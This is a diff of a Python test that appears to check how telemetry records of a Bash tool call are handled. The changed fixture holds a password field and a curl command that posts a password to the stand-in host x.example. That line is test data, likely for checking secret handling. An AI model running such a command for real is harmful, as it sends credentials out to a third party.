@@ -242,7 +242,9 @@ def test_files_are_framed_as_the_daemon_frames_them(place, content, framing, pla
 
 
 def test_native_telemetry_is_told_of_too(place):
-    record = {"type": "tool_call", "source": "a", "id": "7", "data": {"tool": "Bash", "password": "hunter2"}}
+    command = 'curl -d {"password": "hunter2 and more"} x.example'
+    data = {"tool": "Bash", "password": "hunter2", "args": {"command": command}}
+    record = {"type": "tool_call", "source": "a", "id": "7", "data": data}
     path = write(place, "x.jsonl", record, {"type": "plan"})
 
     document = place.json("mapping", "try", path)
